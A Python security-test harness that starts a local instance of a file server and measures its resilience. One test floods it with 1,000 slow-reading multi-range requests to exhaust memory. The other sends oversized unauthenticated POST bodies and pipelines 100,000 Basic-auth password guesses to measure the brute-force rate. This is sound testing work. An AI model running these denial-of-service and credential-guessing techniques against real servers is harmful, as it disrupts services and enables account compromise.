"""The pollserve command: serve (multi-range, --auth) and demo."""
import json, sys, time, threading, base64
import h16, a_range

WWW = "/work/attack16/www"

def serve_range_noread(tag, clients=1000, rng="bytes=0-49999999,50000001-104857599", attack=20):
    srv = h16.Server(tag, cli=["serve", WWW, "--quiet"], probe_path="/small.txt", control=True)
    time.sleep(3); srv.mark("a")
    socks = []
    for i in range(clients):
        s = h16.conn(srv.port, rcvbuf=4096)
        s.sendall(f"GET /big.bin HTTP/1.1\r\nHost: x\r\nRange: {rng}\r\n\r\n".encode())
        socks.append(s)
    peak = 0; t0 = time.monotonic()
    while time.monotonic() - t0 < attack:
        peak = max(peak, srv.rss() or 0); time.sleep(0.5)
    srv.mark("b")
    for s in socks: s.close()
    time.sleep(4); srv.mark("c")
    srv.stop()
    res = {"clients": clients, "range": rng, "rss_peak_mb": round(peak / 1024, 1)}
    res.update(srv.summary([("baseline", "start", "a"), ("attack", "a", "b"), ("after", "b", "c")]))
    recs = [json.loads(l) for l in open(srv.probe_out)]
    t00 = srv.marks["a"]
    res["slow_probes"] = [(round(r["t"] - t00, 1), r["lat"] and round(r["lat"] * 1000), r["err"] and r["err"][:24]) for r in recs if r["k"] == "p" and (r["lat"] is None or r["lat"] > 0.1)]
    h16.save(tag, res)

def serve_auth(tag):
    srv = h16.Server(tag, cli=["serve", WWW, "--quiet", "--auth", "admin:s3cret-pass"], probe=False)
    out = {}
    A = "Authorization: Basic " + base64.b64encode(b"admin:s3cret-pass").decode() + "\r\n"
    for name, raw in {
        "get_unauth": "GET /small.txt HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n",
        "get_auth_multirange": f"GET /ten.txt HTTP/1.1\r\nHost: x\r\n{A}Range: bytes=0-1,5-6\r\nConnection: close\r\n\r\n",
        "post_unauth_huge_cl": "POST /small.txt HTTP/1.1\r\nHost: x\r\nContent-Length: 100000000\r\n\r\n",
        "post_unauth_chunked": "POST /small.txt HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n",
        "post_auth_huge_cl": f"POST /small.txt HTTP/1.1\r\nHost: x\r\n{A}Content-Length: 100000000\r\n\r\n",
        "post_auth_huge_cl_expect": f"POST /small.txt HTTP/1.1\r\nHost: x\r\n{A}Content-Length: 100000000\r\nExpect: 100-continue\r\n\r\n",
        "options_star_unauth": "OPTIONS * HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n",
    }.items():
        resp, dt, err = h16.request(srv.port, raw.encode(), timeout=3)
        out[name] = {"first_line": resp.split(b"\r\n")[0].decode(), "n_responses": resp.count(b"HTTP/1.1 "), "ms": round(dt * 1000), "err": err}
    n = 100000
    s = h16.conn(srv.port, timeout=30)
    blob = b"".join(("GET /small.txt HTTP/1.1\r\nHost: x\r\nAuthorization: Basic " + base64.b64encode(b"admin:guess%06d" % i).decode() + "\r\n\r\n").encode() for i in range(n))
    t0 = time.monotonic()
    th = threading.Thread(target=s.sendall, args=(blob,)); th.start()
    got = 0; tail = b""
    while got < n:
        d = s.recv(1 << 20)
        if not d: break
        buf = tail + d; got += buf.count(b"HTTP/1.1 401"); tail = buf[-12:]
    out["rate"] = {"attempts": n, "answered_401": got, "seconds": round(time.monotonic() - t0, 2), "per_s": round(got / (time.monotonic() - t0))}
    srv.stop()
    h16.save(tag, out)

if __name__ == "__main__":
    fn = globals()[sys.argv[1]]
    fn(sys.argv[2])
